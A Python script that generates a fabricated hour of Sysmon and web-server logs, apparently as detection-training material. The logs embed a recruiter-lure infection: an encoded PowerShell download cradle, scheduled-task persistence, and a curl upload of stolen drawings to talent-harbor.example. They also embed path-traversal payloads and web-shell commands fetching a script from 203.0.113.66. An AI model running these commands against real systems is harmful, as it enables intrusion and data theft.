"""Write the demonstration recording `content/recordings/recruiter-lure`.

All of it is invented: the firm, its people, hosts, domains (under .example) and addresses (the
documentation ranges of RFC 5737). One working hour is told, with ordinary work as background, a
recruiter lure on one workstation and an intrusion through the firm's website.

The text is the same on every run and every Python: only `random.Random.random` is drawn from,
whose sequence the standard library guarantees for a seed.

Usage: python scripts/make_recording.py [FOLDER]
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import random
import sys
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final, TypeVar

Event = dict[str, Any]
T = TypeVar("T")

SEED: Final = 20260302
START: Final = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
HOUR: Final = 3600.0
DOMAIN: Final = "harrow-aero.example"
FOLDER: Final = Path(__file__).parent.parent / "content" / "recordings" / "recruiter-lure"

WORKSTATIONS: Final = (
    ("WS-ENG-03", "t.lindqvist", "192.0.2.43"),
    ("WS-ENG-07", "m.okafor", "192.0.2.47"),
    ("WS-ENG-09", "r.bianchi", "192.0.2.49"),
    ("WS-FIN-02", "j.whitlock", "192.0.2.62"),
    ("WS-HR-01", "n.aarden", "192.0.2.71"),
    ("WS-QA-04", "s.dvorak", "192.0.2.84"),
)
VICTIM: Final = WORKSTATIONS[1]
SERVER: Final = ("WEB-01", "www-data", "192.0.2.80")
LURE_HOST: Final = ("talent-harbor.example", "203.0.113.24")
INTRUDER: Final = "203.0.113.66"

SYSTEM32: Final = "C:\\Windows\\System32\\"
OFFICE: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
EDGE: Final = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
CAD: Final = "C:\\Program Files\\HarrowCAD\\cad.exe"
AGENT: Final = "C:\\Program Files\\FleetAgent\\agentsvc.exe"
EXPLORER: Final = "C:\\Windows\\explorer.exe"
POWERSHELL: Final = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
ORIGINAL_NAMES: Final = {
    "cmd.exe": "Cmd.Exe",
    "powershell.exe": "PowerShell.EXE",
    "WINWORD.EXE": "WinWord.exe",
    "EXCEL.EXE": "Excel.exe",
    "explorer.exe": "EXPLORER.EXE",
}
SITES: Final = (
    ("www.metals-exchange.example", "198.51.100.11"),
    ("mail.harrow-aero.example", "198.51.100.20"),
    ("meet.office-suite.example", "198.51.100.31"),
    ("news.aviation-week.example", "198.51.100.44"),
    ("updates.office-suite.example", "198.51.100.52"),
    ("portal.prime-contractor.example", "198.51.100.77"),
)
DOCUMENTS: Final = ("Offer_Titanium", "Plan_Week_10", "Fastener_Test", "Invoice_1187", "Minutes")
BROWSERS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
)
PAGES: Final = ("/", "/products", "/products/fasteners", "/quality", "/careers", "/contact")


class Recorder:
    """Collects the events of one host log with its running numbers. Times are in seconds after
    START."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.events: list[tuple[float, Event]] = []
        self._processes = 0

    def pick(self, items: Sequence[T]) -> T:
        return items[int(self.rng.random() * len(items))]

    def add(
        self, at: float, host: str, provider: str, channel: str, number: int, **data: Any
    ) -> None:
        event: Event = {"Provider_Name": provider, "EventID": number, "Channel": channel}
        event["Computer"] = f"{host}.{DOMAIN}"
        event["TimeCreated"] = moment(at).strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"
        self.events.append((at, event | data))

    def sysmon(self, at: float, host: str, number: int, **data: Any) -> None:
        utc = moment(at).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
        provider = "Linux-Sysmon" if host == SERVER[0] else "Microsoft-Windows-Sysmon"
        channel = f"{provider}/Operational"
        self.add(at, host, provider, channel, number, UtcTime=utc, **data)

    def process(
        self, at: float, host: str, user: str, image: str, command: str, parent: str, **data: Any
    ) -> None:
        """A started program (Sysmon event 1)."""
        self._processes += 1
        name = image.replace("/", "\\").rsplit("\\", 1)[-1]
        original = {} if host == SERVER[0] else {"OriginalFileName": ORIGINAL_NAMES.get(name, name)}
        digest = hashlib.sha256(image.lower().encode()).hexdigest().upper()
        fields: Event = {
            "ProcessGuid": f"{{5f2c8e11-a4d0-69a5-0000-{self._processes:012x}}}",
            "ProcessId": 2000 + self._processes * 4,
            "Image": image,
            **original,
            "CommandLine": command,
            "CurrentDirectory": "C:\\Windows\\system32\\" if "\\" in image else "/",
            "User": user,
            "IntegrityLevel": "Medium",
            "Hashes": f"SHA256={digest}",
            "ParentImage": parent,
            "ParentCommandLine": f'"{parent}"' if " " in parent else parent,
        }
        self.sysmon(at, host, 1, **(fields | data))

    def file(self, at: float, host: str, user: str, image: str, target: str) -> None:
        self.sysmon(at, host, 11, Image=image, TargetFilename=target, User=user)

    def library(
        self, at: float, host: str, user: str, image: str, loaded: str, signer: str = ""
    ) -> None:
        signed = {
            "Signed": "true" if signer else "false",
            "Signature": signer or "-",
            "SignatureStatus": "Valid" if signer else "Unavailable",
        }
        self.sysmon(at, host, 7, Image=image, ImageLoaded=loaded, User=user, **signed)

    def connection(
        self, at: float, host: str, user: str, image: str, source: str, site: tuple[str, str]
    ) -> None:
        self.sysmon(
            at, host, 22, Image=image, User=user, QueryName=site[0], QueryStatus="0",
            QueryResults=f"::ffff:{site[1]};",
        )  # fmt: skip
        self.sysmon(
            at + 0.05, host, 3, Image=image, User=user, Protocol="tcp", Initiated="true",
            SourceIp=source, SourcePort=49152 + int(self.rng.random() * 16000),
            DestinationHostname=site[0], DestinationIp=site[1], DestinationPort=443,
        )  # fmt: skip

    def lines(self) -> Iterator[str]:
        """NDJSON in the order of time, numbered per host and channel."""
        numbers: dict[tuple[str, str], int] = {}
        for at, event in sorted(self.events, key=lambda item: item[0]):
            if not 0 <= at < HOUR:
                continue
            key = (event["Computer"], event["Channel"])
            numbers[key] = numbers.get(key, 41000) + 1
            yield json.dumps(event | {"EventRecordID": numbers[key]}, ensure_ascii=False)


def moment(at: float) -> datetime:
    return START + timedelta(milliseconds=round(at * 1000))


def clock(text: str) -> float:
    """Seconds after START of a wall-clock time `09:14:07`."""
    hour, minute, second = (int(part) for part in text.split(":"))
    return (hour - START.hour) * HOUR + minute * 60 + second


def office_work(log: Recorder, at: float, host: str, user: str, source: str) -> None:
    """One ordinary act of a person or of the computer."""
    account, system = f"HARROW\\{user}", "NT AUTHORITY\\SYSTEM"
    home = f"C:\\Users\\{user}\\"
    document = f"{log.pick(DOCUMENTS)}_{int(log.rng.random() * 90) + 10}"
    acts: tuple[Callable[[], None], ...] = (
        lambda: log.process(at, host, account, EDGE, f'"{EDGE}" --type=renderer', EDGE),
        lambda: log.connection(at, host, account, EDGE, source, log.pick(SITES)),
        lambda: log.connection(at, host, account, OFFICE + "OUTLOOK.EXE", source, SITES[1]),
        lambda: log.connection(at, host, system, SYSTEM32 + "svchost.exe", source, SITES[4]),
        lambda: log.process(
            at, host, account, OFFICE + "WINWORD.EXE",
            f'"{OFFICE}WINWORD.EXE" /n "\\\\files\\projects\\{document}.docx"', EXPLORER,
        ),
        lambda: log.file(
            at, host, account, OFFICE + "WINWORD.EXE",
            f"{home}AppData\\Roaming\\Microsoft\\Office\\Recent\\{document}.LNK",
        ),
        lambda: log.process(
            at, host, account, CAD, f'"{CAD}" "D:\\projects\\press\\{document}.dwg"', EXPLORER
        ),
        lambda: log.library(at, host, account, CAD, CAD[:-7] + "dbghelp.dll", "Harrow Tools Ltd"),
        lambda: log.library(at, host, account, EDGE, SYSTEM32 + "version.dll", "Microsoft Windows"),
        lambda: log.file(at, host, account, EDGE, f"{home}Downloads\\{document}.pdf"),
        lambda: log.process(
            at, host, system, SYSTEM32 + "taskhostw.exe", "taskhostw.exe Logon",
            SYSTEM32 + "svchost.exe",
        ),
        lambda: log.process(
            at, host, system, SYSTEM32 + "SearchProtocolHost.exe",
            '"SearchProtocolHost.exe" Global\\UsGthrFltPipe', SYSTEM32 + "SearchIndexer.exe",
        ),
        lambda: log.sysmon(
            at, host, 13, EventType="SetValue", Image=EXPLORER, User=account,
            TargetObject="HKU\\S-1-5-21-11-22-33-1104\\Software\\Microsoft\\Windows\\CurrentVersion"
            f"\\Explorer\\RecentDocs\\{document}", Details="Binary Data",
        ),
        lambda: log.add(
            at, host, "Microsoft-Windows-Security-Auditing", "Security", 4624,
            TargetUserName=user, TargetDomainName="HARROW", LogonType=log.pick((3, 5, 7)),
            IpAddress="192.0.2.10",
        ),
        lambda: log.add(
            at, host, "Service Control Manager", "System", 7036,
            param1=log.pick(("Windows Update", "Windows Search", "Print Spooler")),
            param2=log.pick(("running", "stopped")),
        ),
    )  # fmt: skip
    log.pick(acts)()


def administration(log: Recorder, host: str, user: str, source: str, start: float) -> None:
    """What the firm's management agent does on every host: near misses of many rules."""
    system = "NT AUTHORITY\\SYSTEM"
    script = "C:\\Program Files\\FleetAgent\\scripts\\inventory.ps1"
    log.process(
        start, host, system, POWERSHELL, f'powershell.exe -NoProfile -File "{script}"', AGENT
    )
    log.add(
        start + 1, host, "Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational",
        4104, ScriptBlockText="Get-CimInstance Win32_Product | Export-Csv $env:TEMP\\inv.csv",
        Path=script,
    )  # fmt: skip
    encoded = base64.b64encode("Get-Service | Sort-Object Status".encode("utf-16-le")).decode()
    log.process(
        start + 20, host, system, POWERSHELL, f"powershell.exe -EncodedCommand {encoded}", AGENT
    )
    for command in ("schtasks.exe /query /fo csv", "wevtutil.exe qe System /c:5 /rd:true /f:text"):
        image = SYSTEM32 + command.split()[0]
        log.process(start + 40, host, system, image, command, AGENT)
    log.connection(start + 45, host, system, AGENT, source, SITES[4])
    log.add(
        start + 60, host, "Service Control Manager", "System", 7045,
        ServiceName="FleetAgent Updater", ServiceType="user mode service",
        ImagePath='"C:\\Program Files\\FleetAgent\\updater.exe"', AccountName="LocalSystem",
    )  # fmt: skip
    log.process(
        start + 90, host, f"HARROW\\{user}", "C:\\Program Files\\7-Zip\\7zG.exe",
        f'"C:\\Program Files\\7-Zip\\7zG.exe" x -o"C:\\Users\\{user}\\Documents" C:\\Temp\\d.zip',
        EXPLORER,
    )  # fmt: skip


def lure(log: Recorder) -> None:
    """The recruiter lure on one workstation, from the download to the upload."""
    host, user, source = VICTIM
    account = f"HARROW\\{user}"
    home = f"C:\\Users\\{user}\\"
    word, wscript = OFFICE + "WINWORD.EXE", SYSTEM32 + "wscript.exe"
    document = f"{home}Downloads\\Senior_Propulsion_Engineer_Offer.docx"
    payload = "C:\\ProgramData\\Intel\\colorcpl.exe"
    cmd, packer = SYSTEM32 + "cmd.exe", "C:\\ProgramData\\Intel\\7za.exe"

    log.connection(clock("09:12:40"), host, account, EDGE, source, LURE_HOST)
    log.file(clock("09:12:44"), host, account, EDGE, document)
    log.process(clock("09:14:07"), host, account, word, f'"{word}" /n "{document}"', EXPLORER)
    log.connection(clock("09:14:11"), host, account, word, source, LURE_HOST)
    cache = f"{home}AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\Q7K2M1XA\\Benefits[1].dotm"
    log.file(clock("09:14:13"), host, account, word, cache)
    script = f'wscript.exe //B "{home}AppData\\Local\\Temp\\upd.vbs"'
    log.process(clock("09:14:21"), host, account, wscript, script, word)
    log.connection(clock("09:14:25"), host, account, wscript, source, LURE_HOST)
    log.file(clock("09:14:31"), host, account, wscript, payload)
    log.file(clock("09:14:32"), host, account, wscript, "C:\\ProgramData\\Intel\\colorui.dll")
    log.process(clock("09:14:40"), host, account, payload, f'"{payload}" 8Dj2kQ', wscript)
    log.library(clock("09:14:41"), host, account, payload, "C:\\ProgramData\\Intel\\colorui.dll")
    log.connection(clock("09:14:45"), host, account, payload, source, LURE_HOST)
    name = "Intel Colour Service"
    task = f'schtasks.exe /create /f /sc minute /mo 30 /tn "{name}" /tr "{payload} 8Dj2kQ"'
    log.process(clock("09:15:30"), host, account, SYSTEM32 + "schtasks.exe", task, wscript)
    content = f"<Task><Actions><Exec><Command>{payload}</Command></Exec></Actions></Task>"
    log.add(
        clock("09:15:31"), host, "Microsoft-Windows-Security-Auditing", "Security", 4698,
        SubjectUserName=user, TaskName=f"\\{name}", TaskContent=content,
    )  # fmt: skip
    fetch = f"IEX (New-Object Net.WebClient).DownloadString('https://{LURE_HOST[0]}/a')"
    encoded = base64.b64encode(fetch.encode("utf-16-le")).decode()
    hidden = f"powershell.exe -NoP -W Hidden -enc {encoded}"
    log.process(clock("09:21:02"), host, account, POWERSHELL, hidden, payload)
    log.connection(clock("09:21:04"), host, account, POWERSHELL, source, LURE_HOST)
    for number, command in enumerate(("whoami /all", "net view /domain", "ipconfig /all")):
        image = SYSTEM32 + command.split()[0] + ".exe"
        log.process(clock("09:22:10") + number * 9, host, account, image, command, POWERSHELL)
    pack = "7za.exe a C:\\ProgramData\\Intel\\t.7z D:\\projects\\*.dwg -pX9!kd -mhe=on"
    log.process(clock("09:33:10"), host, account, packer, pack, cmd)
    log.file(clock("09:34:02"), host, account, packer, "C:\\ProgramData\\Intel\\t.7z")
    send = f'curl.exe -s -F "f=@C:\\ProgramData\\Intel\\t.7z" https://{LURE_HOST[0]}/in'
    log.process(clock("09:36:44"), host, account, SYSTEM32 + "curl.exe", send, cmd)
    log.connection(clock("09:36:45"), host, account, SYSTEM32 + "curl.exe", source, LURE_HOST)


def website_host(log: Recorder) -> None:
    """The web server's own process events: ordinary work, then the children of the web shell."""
    host, user, _ = SERVER
    fpm, shell = "/usr/sbin/php-fpm8.2", "/usr/bin/dash"
    for number in range(40):
        at = number * 88.0 + log.rng.random() * 40
        picture = f"/var/www/html/uploads/part_{number}.png"
        log.file(at, host, user, fpm, picture)
        convert = f"sh -c convert {picture} -resize 200x200 /var/www/html/thumbs/{number}.png"
        log.process(at + 0.2, host, user, shell, convert, fpm)
        log.process(at + 5, host, "root", "/usr/lib/sysstat/sa1", "sa1 1 1", "/usr/sbin/cron")
    log.file(clock("09:24:10"), host, user, fpm, "/var/www/html/uploads/cv_0317.php")
    commands = ("id", "uname -a", "cat /etc/passwd", f"curl -s http://{INTRUDER}/l.sh -o /tmp/l.sh")
    for number, command in enumerate(commands):
        at = clock("09:24:50") + number * 31
        log.process(at, host, user, shell, f"sh -c {command}", fpm)


def website_log(rng: random.Random) -> list[str]:
    """The access log: visitors, a scanner, traversal, guessing, an upload and its web shell."""
    found: list[tuple[float, str]] = []

    def visit(at: float, client: str, request: str, status: int, size: int, agent: str) -> None:
        when = moment(at).strftime("%d/%b/%Y:%H:%M:%S +0000")
        line = f'{client} - - [{when}] "{request} HTTP/1.1" {status} {size} "-" "{agent}"'
        found.append((at, line))

    for _ in range(260):
        at, client = rng.random() * HOUR, f"198.51.100.{int(rng.random() * 200) + 20}"
        agent = BROWSERS[int(rng.random() * len(BROWSERS))]
        for step in range(int(rng.random() * 5) + 1):
            page = PAGES[int(rng.random() * len(PAGES))]
            visit(
                at + step * 14, client, f"GET {page}", 200, 4000 + int(rng.random() * 9000), agent
            )
            visit(at + step * 14 + 1, client, "GET /css/site.css", 304, 0, agent)
        if rng.random() < 0.1:
            visit(at + 90, client, "GET /old/catalogue.pdf", 404, 512, agent)
            visit(at + 95, client, "POST /contact", 302, 0, agent)

    for number in range(150):
        word = ("admin", "backup", "old", "test", "db", "shop")[number % 6]
        path = f"GET /{word}{number}.php"
        visit(
            clock("09:03:00") + number * 0.9, INTRUDER, path, 404, 512, "Mozilla/5.0 (Nikto/2.5.0)"
        )
    for number in range(40):
        visit(clock("09:07:00") + number * 2, INTRUDER, "GET /admin/", 401, 199, BROWSERS[0])
    for number, target in enumerate(("../" * 3, "..%2f" * 4, "%252e%252e%252f" * 4)):
        at = clock("09:10:10") + number * 4
        visit(at, INTRUDER, f"GET /view.php?f={target}etc/passwd", 403, 199, BROWSERS[0])
    read = f"GET /view.php?f={'....//' * 4}etc/passwd"
    visit(clock("09:10:40"), INTRUDER, read, 200, 2314, BROWSERS[0])
    visit(clock("09:24:10"), INTRUDER, "POST /careers/upload", 201, 88, BROWSERS[0])
    for number, command in enumerate(("id", "uname+-a", "cat+/etc/passwd")):
        at = clock("09:24:50") + number * 31
        request = f"GET /uploads/cv_0317.php?c={command}"
        visit(at, INTRUDER, request, 200, 54 + number * 700, BROWSERS[0])
    return [line for at, line in sorted(found) if at < HOUR]


def recording() -> dict[str, list[str]]:
    """The lines of every file of the recording, by file name (without .gz)."""
    workstations = Recorder(random.Random(SEED))
    for host, user, source in WORKSTATIONS:
        at = workstations.rng.random() * 5
        while at < HOUR:
            office_work(workstations, at, host, user, source)
            at += 2 + workstations.rng.random() * 8
        administration(workstations, host, user, source, 300 + workstations.rng.random() * 2400)
    lure(workstations)
    server = Recorder(random.Random(SEED + 1))
    website_host(server)
    return {
        "workstations.ndjson": list(workstations.lines()),
        "web-01.ndjson": list(server.lines()),
        "access.log": website_log(random.Random(SEED + 2)),
    }


def main(folder: Path = FOLDER) -> None:
    """Write every file, packed. The packed bytes depend on the zlib at hand, the text does not."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, lines in recording().items():
        text = "".join(f"{line}\n" for line in lines).encode()
        packed = gzip.compress(text, 9, mtime=0)
        (folder / f"{name}.gz").write_bytes(packed)
        print(f"{name}: {len(lines)} lines, {len(text)} bytes, {len(packed)} packed")


if __name__ == "__main__":
    main(*map(Path, sys.argv[1:2]))
